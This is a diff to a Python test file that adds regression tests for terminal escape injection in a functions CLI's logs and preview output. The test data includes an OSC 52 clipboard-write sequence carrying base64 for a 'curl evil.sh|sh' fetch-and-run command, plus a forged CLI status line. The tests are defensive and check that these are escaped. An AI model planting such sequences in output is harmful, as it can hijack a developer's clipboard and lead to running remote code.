@@ -4,12 +4,19 @@ sizes, the catcher's captures and the dead letters a member reads, the lines
 functions-cli prints of what a sender wrote. Each test is a hole found by attacking
 them, now closed. What held is said in docs/security.md (issue 14's attack, again)."""
 
+import io
+import os
+import subprocess
+import sys
+from pathlib import Path
 from urllib.parse import urlsplit
 
 import pytest
 
-from ingest.models import IngestEvent
+from functions_cli import preview
+from ingest.models import Execution, IngestEvent
 from tests.catalog.helpers import API, create_function, deploy
+from tests.factories import bearer
 from tests.ingest.helpers import TRACK_AND_SET, source_running
 
 pytestmark = pytest.mark.django_db
@@ -230,3 +237,62 @@ def test_a_kept_request_s_query_credentials_are_masked_below_owner(owner_api, me
         == f"https://example.com/hook?{MASKED}"
     )
     assert owner_api.get(samples).json()["results"][0]["request"] == ours
+
+
+# --- What a sender wrote, printed raw to a developer's terminal ---------------------------
+# `functions-cli logs` printed a function's console output and error message as they
+# were, and they hold what senders send (console.log(body.type), `${type} is not
+# supported`): a webhook could write escape sequences to the terminal of whoever follows
+# the logs (the clipboard through ESC ] 52, the title, links) and forge lines that read
+# as the CLI's own (another execution, SUCCEEDED). So could a preview's error lines and a
+# destination's answer. Each is printed on its line, control characters as escapes
+# (functions_cli.text.printable), as `functions-cli test` prints a case.
+
+ROOT = Path(__file__).resolve().parents[2]
+FORGED_LOG = "got charge\n2026-01-01T00:00:00Z  #1 attempt 1  SUCCEEDED"
+CLIPBOARD = "unknown type \x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
+
+
+@pytest.mark.django_db(transaction=True)
+def test_functions_cli_logs_prints_a_sender_s_text_as_escapes(
+    live_server, workspace, owner, tmp_path
+):
+    source = source_running(TRACK_AND_SET, workspace=workspace, slug="orders")
+    event = IngestEvent.objects.create(
+        source=source, version=source.version, method="POST", path="/hooks/x", raw_body=b"{}"
+    )
+    Execution.objects.create(
+        ingest_event=event, source=source, version=source.version, attempt=1,
+        started_at=event.received_at, duration_ms=1.0, status="failed",
+        error={"name": "EventNotSupported", "message": CLIPBOARD},
+        logs=[{"level": "log", "message": FORGED_LOG}],
+    )  # fmt: skip
+    env = {**os.environ, "SOURCE_FN_CONFIG": str(tmp_path / "config.json"), "PYTHONPATH": str(ROOT)}
+    token = bearer(owner, workspace).removeprefix("Bearer ")
+    for args in (("login", "--url", live_server.url, "--workspace", "acme", "--token", token),
+                 ("logs", "--source", "orders")):  # fmt: skip
+        done = subprocess.run([sys.executable, "-m", "functions_cli.main", *args],
+                              capture_output=True, text=True, env=env, timeout=60)  # fmt: skip
+        assert done.returncode == 0, done.stderr
+    assert done.stdout.splitlines()[1:] == [
+        "    EventNotSupported: unknown type \\u001b]52;c;Y3VybCBldmlsLnNofHNo\\u0007",
+        "    [log] got charge\\n2026-01-01T00:00:00Z  #1 attempt 1  SUCCEEDED",
+    ]
+
+
+def test_functions_cli_preview_prints_a_sender_s_error_as_escapes():
+    counts = {"compared": 1, "same": 0, "different": 1, "new_errors": 1, "fixed_errors": 0,
+              "changed_errors": 0, "events": {"changed": 0, "new": 0, "missing": 0},
+              "objects": {"changed": 0, "new": 0, "missing": 0}}  # fmt: skip
+    different = [{"ingest_event": 7, "received_at": "2026-01-01T00:00:00Z", "version": 1,
+                  "error": {"change": "new", "before": None,
+                            "after": {"name": "EventNotSupported", "message": CLIPBOARD}}}]  # fmt: skip
+    out = io.StringIO()
+    preview._print(
+        {"summary": counts, "source": "orders", "fetch": "fetch was off."}, different, out
+    )
+    assert "\x1b" not in out.getvalue() and "\x07" not in out.getvalue()
+    assert (
+        "    new error: EventNotSupported: unknown type \\u001b]52;c;Y3VybCBldmlsLnNofHNo\\u0007"
+        in out.getvalue().splitlines()
+    )
